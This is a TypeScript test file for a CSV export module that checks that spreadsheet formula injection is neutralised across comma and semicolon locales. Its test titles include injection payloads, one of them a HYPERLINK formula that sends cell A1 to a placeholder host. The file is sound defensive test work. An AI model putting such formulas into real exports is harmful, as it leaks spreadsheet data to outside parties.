import { describe, expect, it } from 'vitest'
import { csvCell, toCsv } from '../../worker/domain/exports/csv'

describe('csvCell', () => {
  it('leaves plain text and numbers alone', () => {
    expect(csvCell('Dinas Kesehatan')).toBe('Dinas Kesehatan')
    expect(csvCell(85.94)).toBe('85.94')
    expect(csvCell(-3)).toBe('-3')
    expect(csvCell(false)).toBe('false')
    expect(csvCell(null)).toBe('')
  })

  it.each([
    ['=1+1', "'=1+1"],
    ['+62 811', "'+62 811"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
  ])('neutralises %j as %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected)
  })

  it('quotes commas, quotes and line breaks, doubling inner quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('kata "kutip"')).toBe('"kata ""kutip"""')
    expect(csvCell('baris\nbaru')).toBe('"baris\nbaru"')
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
    expect(csvCell('Judul;=HYPERLINK("x")')).toBe(`"Judul;'=HYPERLINK(""x"")"`)
  })

  it('keeps text that only contains a formula sign later on', () => {
    expect(csvCell('Skor 4=baik')).toBe('Skor 4=baik')
    expect(csvCell('«Lapor» — versi 2')).toBe('«Lapor» — versi 2')
  })
})

// How a spreadsheet reads the file: fields cut at `separator` and at line breaks, a quote only
// opens a quoted field where a field begins (elsewhere it is a plain character), `""` inside
// a quoted field is one quote, and what follows a closing quote is kept as it is.
function openAs(csv: string, separator: ',' | ';'): string[] {
  const fields: string[] = []
  let i = 0
  while (i < csv.length) {
    let field = ''
    if (csv[i] === '"') {
      i++
      while (i < csv.length && !(csv[i] === '"' && csv[i + 1] !== '"')) {
        field += csv[i]
        i += csv[i] === '"' ? 2 : 1
      }
      i++
    }
    while (i < csv.length && csv[i] !== separator && csv[i] !== '\r' && csv[i] !== '\n') {
      field += csv[i++]
    }
    fields.push(field)
    if (csv[i] === '\r' && csv[i + 1] === '\n') i++
    i++
  }
  return fields
}

// What a spreadsheet would run: a field that starts with a formula sign, behind any blanks.
const runs = (field: string) => /^\s*[=+\-@]/.test(field)

describe('a CSV opened in a comma or a semicolon locale', () => {
  const titles = [
    'Judul;=HYPERLINK("http://x.example/?d="&A1;"klik")',
    'Judul;=1+1',
    'Judul; +62 811',
    'a,=1+1',
    'a;"=1+1"',
    'baris\n=1+1',
    'baris\r\n@SUM(A1)',
    'kolom\t-2+3',
    '=1+1;=2+2',
  ]

  it.each([',', ';'] as const)('runs no reader-set text as a formula when cut on %j', (sep) => {
    for (const title of titles) {
      // Each title first, in the middle and last in its row: where a quote opens a field differs.
      const csv = toCsv(
        ['a', 'b', 'c'],
        [
          [title, 1, 'x'],
          [1, title, 'x'],
          [1, 'x', title],
        ],
      )
      expect(openAs(csv, sep).filter(runs), `${JSON.stringify(title)} cut on ${sep}`).toEqual([])
    }
  })

  it('keeps the text readable in the comma locale it is written for', () => {
    const csv = toCsv(['judul'], [['Judul;=1+1'], ['a,=1+1'], ['Rp 50.000,- per bulan']])
    expect(openAs(csv, ',')).toEqual(['judul', "Judul;'=1+1", 'a,=1+1', 'Rp 50.000,- per bulan'])
  })
})

describe('toCsv', () => {
  it('writes a header row and ends every line with CRLF', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          [1, 'x,y'],
          [null, 'z'],
        ],
      ),
    ).toBe('a,b\r\n1,"x,y"\r\n,z\r\n')
  })
})

describe('the office’s semicolon CSV', () => {
  const style = { separator: ';', bom: true } as const

  it('starts with a byte order mark, separates with ; and writes decimal commas', () => {
    expect(toCsv(['IKM', 'Nama'], [[85.94, 'Dinas; Kesehatan']], style)).toBe(
      '\ufeffIKM;Nama\r\n85,94;"Dinas; Kesehatan"\r\n',
    )
  })

  it('runs nothing whether opened in a semicolon or a comma locale', () => {
    for (const title of ['a,=1+1', 'Judul;=1+1', '=SUM(A1)', 'baris\n@SUM(A1)']) {
      const csv = toCsv(['a', 'b'], [[1.5, title]], style).slice(1)
      for (const sep of [',', ';'] as const)
        expect(openAs(csv, sep).filter(runs), `${JSON.stringify(title)} cut on ${sep}`).toEqual([])
    }
  })
})
